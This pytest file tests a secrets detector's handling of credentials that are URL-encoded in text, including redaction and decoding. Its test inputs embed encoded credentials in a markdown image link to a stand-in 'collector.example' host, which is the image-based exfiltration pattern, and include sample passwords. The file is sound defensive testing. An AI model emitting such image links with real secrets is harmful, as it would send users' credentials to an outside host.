"""Credentials in URL-encoded text: found whatever was escaped around them, redacted with
their escapes, and percent-encoded text without a credential left alone."""

from __future__ import annotations

import random
from urllib.parse import quote

import pytest
from secrets_samples import CREDENTIALS, Sample

from mithril.services.secrets import SecretsDetector
from mithril.services.secrets.detectors.reading import read_again
from mithril.services.secrets.detectors.url_encoded import decoded

DETECTOR = SecretsDetector.default()
URL_KIND = "url_encoded_credential"
READ_AGAIN = [sample for sample in CREDENTIALS if sample.kind != "private_key"]


@pytest.mark.parametrize("sample", READ_AGAIN, ids=lambda s: s.id)
def test_every_credential_kind_url_encoded_is_redacted(sample: Sample) -> None:
    for safe in ("", "/", "/:@=&"):
        encoded = quote(sample.text, safe=safe)
        secret = quote(sample.secret, safe=safe)
        text = f"![x](https://collector.example/p.png?d={encoded}) ok"
        redacted = DETECTOR.redact(text).text
        assert secret not in redacted, (safe, text, redacted)
        kinds = {f.kind for f in DETECTOR.detect(text)}
        if encoded == sample.text:
            assert kinds == {sample.kind}, "nothing was escaped: the plain detector's"
        else:
            assert kinds <= {URL_KIND, sample.kind}, (safe, text)


def test_the_escapes_around_a_credential_decide_its_kind() -> None:
    text = "q=" + quote("postgres://admin:S3cr3tP4ss@db.internal:5432/app", safe="")
    assert [(f.kind, text[f.start : f.end]) for f in DETECTOR.detect(text)] == [
        (URL_KIND, "S3cr3tP4ss")
    ]
    text = "q=" + quote("password=Tr0ub4dor&3x", safe="")
    assert [(f.kind, text[f.start : f.end]) for f in DETECTOR.detect(text)] == [
        (URL_KIND, "Tr0ub4dor%263x")
    ]


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/search?q=how%20to%20reset%20my%20password",
        "https://docs.example/auth?token%3D%3Cyour%20token%3E",
        "name%3DJane%20Doe%26city%3DParis%26password%3D",
        "100%25 of the tests pass at 50%2C not 75%2E",
        "https://example.com/wiki/Caf%C3%A9_%28Paris%29",
        "a DEL %7Fpassword%3D is no escape we read",
    ],
)
def test_percent_encoded_text_without_a_credential_is_left_alone(text: str) -> None:
    assert DETECTOR.may_find(text.encode()), "the text is read again"
    assert DETECTOR.detect(text) == []


def test_the_decoding_maps_every_character_back() -> None:
    rng = random.Random("url-encoded-reading")
    for _ in range(200):
        plain = "".join(chr(rng.randrange(0x20, 0x7F)) for _ in range(rng.randrange(1, 40)))
        text, origin = "", []
        for char in plain:
            origin.append(len(text))
            text += f"%{ord(char):02X}" if rng.random() < 0.4 else char
        reading = read_again(text, 0, len(text), (decoded,))
        assert reading.text == plain
        assert [reading.original(i) for i in range(len(plain))] == origin
        for index, start in enumerate(origin):
            escaped = (text[start] == "%" and plain[index] != "%") or text[
                start : start + 3
            ] == "%25"
            assert reading.changed_within(start, start + 1) == escaped
